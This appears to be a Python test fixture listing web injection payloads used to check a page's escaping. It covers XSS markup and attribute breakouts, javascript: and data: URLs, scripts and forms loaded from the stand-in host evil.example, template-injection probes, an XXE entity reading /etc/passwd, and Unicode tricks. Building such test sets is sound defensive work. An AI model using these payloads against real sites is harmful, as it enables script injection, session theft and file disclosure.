"""Words that attack a page where they are taken for more than words; each plants `pwned` where it succeeds."""

from __future__ import annotations

MARKUP = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<img src=x onerror=pwned() class=pwned>",
    "<img/src=x/onerror=pwned()/class=pwned>",
    "<svg onload=pwned() class=pwned>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s class=pwned>",
    "<body onload=pwned() class=pwned>",
    "<iframe src=javascript:pwned() class=pwned></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>' class=pwned></iframe>",
    "<object data=javascript:pwned() class=pwned></object>",
    "<embed src=//evil.example/x.swf class=pwned>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned() class=pwned>",
    "<form action=//evil.example class=pwned><input name=q><button>",
    "<base href=//evil.example/ class=pwned>",
    "<meta http-equiv=refresh content=0;url=//evil.example class=pwned>",
    "<link rel=stylesheet href=//evil.example/x.css class=pwned>",
    "<details open ontoggle=pwned() class=pwned>",
    "<video><source onerror=pwned() class=pwned></video>",
    "<marquee onstart=pwned() class=pwned>",
    "<template><b class=pwned></b></template><b class=pwned>",
    "<plaintext class=pwned>",
    "</title><script>pwned()</script>",
    "</textarea><b class=pwned>",
    "</style><b class=pwned>",
    "</script><b class=pwned>",
    "<!--<script>--><b class=pwned>",
    "<![CDATA[<b class=pwned>]]>",
    "<a href=javascript:pwned() class=pwned>x</a>",
    "<b class=pwned id=search>x</b>",
)

ATTRIBUTES = (
    '" onmouseover="pwned()" class="pwned',
    "' onfocus='pwned()' autofocus class='pwned",
    '"><b class=pwned>',
    "'><b class=pwned>",
    "`onmouseover=pwned() class=pwned",
    "x onerror=pwned() class=pwned",
    '" style="background:url(\'//evil.example/x.png\')" class="pwned',
    "&quot;><b class=pwned>",
    "&#34;&#62;&#60;b class=pwned&#62;",
    "\\x3cb class=pwned\\x3e",
)

ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    " javascript:pwned()",
    "\x01javascript:pwned()",
    "data:text/html,<script>opener.pwned()</script>",
    "data:image/svg+xml,<svg onload=pwned() />",
    "vbscript:pwned()",
    "//evil.example/x.png",
    "https://evil.example/x.png 1x, //evil.example/y.png",
    "https://evil.example@127.0.0.1/",
    "file:///etc/passwd",
    "#view/../../x",
)

STYLE_AND_DATA = (
    "red;}body{background:url(//evil.example/x.png)}",
    "expression(pwned())",
    "@import '//evil.example/x.css';",
    "*/ body{display:none} /*",
    '"});pwned();//',
    "');pwned();//",
    '\\"});pwned();//',
    "</script><script>pwned()</script>",
    "]);pwned();gallerySearch([",
    "${pwned()}",
    "__proto__",
    "constructor",
    "\u2028pwned()\u2029",
    "]]><b class=pwned xmlns='http://www.w3.org/1999/xhtml'/>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
)

MARKDOWN = (
    "[x](javascript:pwned())",
    "![x](//evil.example/x.png)",
    '![x](x.png"onerror="pwned())',
    "<javascript:pwned()>",
    "[x]: javascript:pwned()\n\n[x]",
    "# x {onclick=pwned() class=pwned}",
    "```<b class=pwned>```",
)

TEMPLATES = (
    "{{7331*7331}}",
    "{% if 7331*7331 %}53743561{% endif %}".replace("53743561", "pwned"),
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__ }}",
    "{#{{7331*7331}}#}",
    "#{7331*7331}",
    "<%= 7331*7331 %>",
    "%(x)s {0.__class__} %n",
)

SIGNS = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068 no end",
    "\u200b\u200c\u200d\ufeff",
    "e" + "\u0301" * 60,
    "\x1b[31mred\x07\x08",
    "\x0c\x0b\x85",
    "\ufffe\uffff\ufdd0",
    "\U000e0001\U000e0041",
    "𝕵𝖆𝖛𝖆𝖘𝖈𝖗𝖎𝖕𝖙:pwned()",
    "＜script＞pwned()＜/script＞",
    "A" * 5000,
    "סוף <b class=pwned>",
)

PAYLOADS = (*MARKUP, *ATTRIBUTES, *ADDRESSES, *STYLE_AND_DATA, *MARKDOWN, *TEMPLATES, *SIGNS)

RESULT = "53743561"
"""What a template makes of `7331*7331`."""
